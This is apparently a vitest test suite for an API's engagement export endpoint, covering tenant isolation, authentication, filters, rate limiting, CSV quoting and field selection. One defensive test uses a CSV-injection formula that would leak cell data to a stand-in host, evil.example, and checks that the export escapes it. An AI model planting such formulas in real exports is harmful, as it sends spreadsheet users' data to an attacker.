import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ApiDatabase } from '../src/database.js'
import { PORTFOLIO_CSV_COLUMNS } from '../src/exports/portfolio-formats.js'
import { type Api, createApi } from '../src/yoga.js'
import { createTestDatabase, TEST_ENGINES } from './support/database.js'
import { globalId } from './support/execute.js'
import {
  type DemoFixture,
  seedDemoFixture,
  seedForeignOrganization,
  seedPortfolio,
} from './support/fixtures.js'
import { connectionRows, exportRows, parseCsv, requestExport } from './support/portfolio-export.js'
import { type Credential, signIn, TEST_SECURITY } from './support/security.js'

const token = (secret: string): Credential => ({ kind: 'token', token: secret })
const NONE: Credential = { kind: 'none' }

describe.each(TEST_ENGINES)('GET /exports/engagements.<format> (%s)', (engine) => {
  let db: ApiDatabase
  let yoga: Api
  let demo: DemoFixture
  let foreign: Awaited<ReturnType<typeof seedForeignOrganization>>
  let portfolio: Awaited<ReturnType<typeof seedPortfolio>>
  let analyst: Credential

  beforeAll(async () => {
    db = await createTestDatabase(engine)
    demo = await seedDemoFixture(db)
    foreign = await seedForeignOrganization(db)
    portfolio = await seedPortfolio(db, 130)
    // A member with the viewer role and a read-only token.
    analyst = token(portfolio.token)
    yoga = createApi({ db, security: TEST_SECURITY })
  })
  afterAll(() => db?.close())

  it('writes formula-like titles as text in CSV and unchanged in NDJSON (CSV injection)', async () => {
    const title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    await db.prisma.engagement.update({ where: { id: foreign.engagementId }, data: { title } })
    const csv = await (await requestExport(yoga, 'csv', token(foreign.token))).text()
    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat()
    expect(cells).toContain(`'${title}`)
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([])
    const ndjson = await exportRows(yoga, token(foreign.token))
    expect(ndjson.map((row) => row.title)).toContain(title)
  })

  it('streams every engagement of the viewer exactly as the connection returns them', async () => {
    const response = await requestExport(yoga, 'ndjson', analyst)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8')
    expect(response.headers.get('content-disposition')).toContain('immd-portfolio.ndjson')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('cache-control')).toBe('private, no-store')
    await response.body?.cancel()
    const exported = await exportRows(yoga, analyst)
    expect(exported).toHaveLength(130)
    expect(exported).toEqual(await connectionRows(yoga, analyst))
  })

  it('applies the filters and orders of the connection', async () => {
    const all = await connectionRows(yoga, analyst)
    const scored = all.find((row) => row.latestBand !== null) as Record<string, unknown>
    const middle = all[Math.floor(all.length / 2)] as Record<string, unknown>
    const cases: {
      params: Record<string, string | string[]>
      filter?: Record<string, unknown>
      orderBy?: Record<string, unknown>
    }[] = [
      {
        params: { orderBy: 'TOTAL', direction: 'ASC' },
        orderBy: { field: 'TOTAL', direction: 'ASC' },
      },
      { params: { orderBy: 'TOTAL' }, orderBy: { field: 'TOTAL', direction: 'DESC' } },
      {
        params: { orderBy: 'TITLE', direction: 'ASC' },
        orderBy: { field: 'TITLE', direction: 'ASC' },
      },
      { params: { orderBy: 'STATE' }, orderBy: { field: 'STATE', direction: 'DESC' } },
      {
        params: { orderBy: 'UPDATED_AT', direction: 'ASC' },
        orderBy: { field: 'UPDATED_AT', direction: 'ASC' },
      },
      {
        params: { state: `${middle.state},${scored.state}` },
        filter: { state: [middle.state, scored.state] },
      },
      {
        params: { band: [String(scored.latestBand), 'MINIMAL'], orderBy: 'TOTAL' },
        filter: { band: [scored.latestBand, 'MINIMAL'] },
        orderBy: { field: 'TOTAL', direction: 'DESC' },
      },
      {
        params: { threshold: String(middle.successThreshold) },
        filter: { threshold: [middle.successThreshold] },
      },
      // Case-insensitive, in the title or IMC id, trimmed like the connection's argument.
      { params: { search: ' ENGAGEMENT 1' }, filter: { search: 'engagement 1' } },
      {
        params: { updatedAfter: String(middle.updatedAt) },
        filter: { updatedAfter: middle.updatedAt },
      },
      {
        params: { organizationId: globalId('Organization', portfolio.organizationId) },
        filter: { organizationId: globalId('Organization', portfolio.organizationId) },
      },
    ]
    for (const { params, filter, orderBy } of cases) {
      const expected = await connectionRows(yoga, analyst, { filter, orderBy })
      expect(expected.length, JSON.stringify(params)).toBeGreaterThan(0)
      expect(await exportRows(yoga, analyst, params), JSON.stringify(params)).toEqual(expected)
    }
  })

  it("never contains another organization's engagements", async () => {
    const lead = token(demo.leadToken)
    const rows = await exportRows(yoga, lead)
    expect(rows.length).toBeGreaterThan(0)
    expect(rows).toEqual(await connectionRows(yoga, lead))
    const organizations = new Set(rows.map((row) => (row.organization as { id: string }).id))
    expect([...organizations]).toEqual([globalId('Organization', demo.organizationId)])
    const foreignId = globalId('Engagement', foreign.engagementId)
    expect(rows.map((row) => row.id)).not.toContain(foreignId)
    expect(
      (await exportRows(yoga, analyst)).every(
        (row) =>
          (row.organization as { id: string }).id ===
          globalId('Organization', portfolio.organizationId),
      ),
    ).toBe(true)
    // Naming another tenant's organization gives what the connection gives: nothing.
    const other = { organizationId: globalId('Organization', foreign.organizationId) }
    expect(await exportRows(yoga, lead, other)).toEqual([])
    const csv = await (await requestExport(yoga, 'csv', lead, other)).text()
    expect(parseCsv(csv.replace(/^\uFEFF/, ''))).toEqual([[...PORTFOLIO_CSV_COLUMNS]])
  })

  it('answers 401 without usable credentials and serves a session of the viewer role', async () => {
    const anonymous = await requestExport(yoga, 'ndjson', NONE)
    expect(anonymous.status).toBe(401)
    expect(anonymous.headers.get('content-type')).toContain('application/json')
    const refusal = (await anonymous.json()) as { code: string; error: string }
    expect(refusal.code).toBe('UNAUTHENTICATED')
    expect(refusal.error).toContain('Authorization: Bearer')
    const wrong = await requestExport(yoga, 'csv', token('immd_not-a-token'))
    expect(wrong.status).toBe(401)
    expect(((await wrong.json()) as { error: string }).error).toContain(
      'unknown, revoked or expired',
    )
    // The console's session cookie works as for report downloads (GET: no CSRF header needed).
    const viewer = await signIn(yoga, 'viewer@example.org')
    const rows = await exportRows(yoga, viewer)
    expect(rows.length).toBeGreaterThan(0)
    expect(rows).toEqual(await connectionRows(yoga, viewer))
  })

  it('refuses bad parameters with 400 naming the parameter, after authentication', async () => {
    const bad: [Record<string, string | string[]>, string][] = [
      [{ state: 'SCORED,BOGUS' }, 'state'],
      [{ band: 'scored' }, 'band'],
      [{ threshold: 'VERY_HIGH' }, 'threshold'],
      [{ orderBy: 'NAME' }, 'orderBy'],
      [{ direction: 'UP' }, 'direction'],
      [{ organizationId: 'not-an-id' }, 'organizationId'],
      [{ organizationId: globalId('Team', portfolio.organizationId) }, 'organizationId'],
      [{ updatedAfter: 'yesterday' }, 'updatedAfter'],
      [{ search: '   ' }, 'search'],
      [{ search: ['a', 'b'] }, 'search'],
      [{ first: '10' }, 'first'],
      [{ fields: 'title,password' }, 'fields'],
      [{ fields: 'team.secret' }, 'fields'],
    ]
    for (const [params, parameter] of bad) {
      const response = await requestExport(yoga, 'ndjson', analyst, params)
      expect(response.status, JSON.stringify(params)).toBe(400)
      const body = (await response.json()) as { code: string; error: string; parameter: string }
      expect(body).toMatchObject({ code: 'BAD_REQUEST', parameter })
      expect(body.error).toContain(parameter)
    }
    expect((await requestExport(yoga, 'ndjson', NONE, { orderBy: 'NAME' })).status).toBe(401)
    const post = await yoga.fetch('http://yoga/exports/engagements.csv', {
      method: 'POST',
      headers: { authorization: `Bearer ${portfolio.token}` },
    })
    expect(post.status).toBe(405)
    expect(post.headers.get('allow')).toBe('GET')
  })

  it('shares the rate-limit budget of GraphQL requests', async () => {
    const limited = createApi({ db, security: { rateLimit: { perCredential: 2 } } })
    expect(
      (await connectionRows(limited, analyst, { filter: { search: 'engagement 12' } })).length,
    ).toBeGreaterThan(0)
    expect((await requestExport(limited, 'csv', analyst)).status).toBe(200)
    const refused = await requestExport(limited, 'ndjson', analyst)
    expect(refused.status).toBe(429)
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(((await refused.json()) as { code: string }).code).toBe('RATE_LIMITED')
  })

  it('writes CSV with the NDJSON values, quoted where RFC 4180 needs it', async () => {
    const target = await db.prisma.engagement.findFirstOrThrow({
      where: { organizationId: portfolio.organizationId },
      orderBy: { id: 'asc' },
    })
    const title = 'Quote "this", then\na line break'
    await db.prisma.engagement.update({ where: { id: target.id }, data: { title } })
    const response = await requestExport(yoga, 'csv', analyst, { orderBy: 'TITLE' })
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    const text = await response.text()
    expect(text.startsWith('\uFEFF')).toBe(true)
    expect(text).toContain(`,"Quote ""this"", then\na line break",`)
    const [header, ...records] = parseCsv(text.slice(1))
    expect(header).toEqual([...PORTFOLIO_CSV_COLUMNS])
    const rows = await exportRows(yoga, analyst, { orderBy: 'TITLE' })
    expect(rows.find((row) => row.id === globalId('Engagement', target.id))?.title).toBe(title)
    const cell = (value: unknown) => (value === null ? '' : String(value))
    expect(records).toEqual(
      rows.map((row) => {
        const organization = row.organization as Record<string, unknown>
        const team = (row.team ?? {}) as Record<string, unknown>
        return PORTFOLIO_CSV_COLUMNS.map((column) => {
          const [scope, field] = column.split('.') as [string, string | undefined]
          if (scope === 'organization') return cell(organization[field as string])
          if (scope === 'team') return cell(team[field as string] ?? null)
          return cell(row[scope])
        })
      }),
    )
  })

  it('writes only the fields asked for, in their order, with the values of the full export', async () => {
    const full = await exportRows(yoga, analyst, { orderBy: 'TITLE' })
    const fields = 'title,team.shortName,latestTotal,id'
    const chosen = await exportRows(yoga, analyst, { orderBy: 'TITLE', fields })
    expect(chosen).toEqual(
      full.map((row) => ({
        title: row.title,
        team:
          row.team === null ? null : { shortName: (row.team as { shortName: string }).shortName },
        latestTotal: row.latestTotal,
        id: row.id,
      })),
    )
    // Keys in the requested order (JSON objects keep insertion order).
    expect(Object.keys(chosen[0] ?? {})).toEqual(['title', 'team', 'latestTotal', 'id'])
    const csv = await (
      await requestExport(yoga, 'csv', analyst, {
        orderBy: 'TITLE',
        fields: ['state', 'organization'],
      })
    ).text()
    const [header, ...records] = parseCsv(csv.replace(/^\uFEFF/, ''))
    expect(header).toEqual(['state', 'organization.id', 'organization.slug', 'organization.name'])
    expect(records).toEqual(
      full.map((row) => {
        const organization = row.organization as Record<string, string>
        return [row.state, organization.id, organization.slug, organization.name]
      }),
    )
  })
})
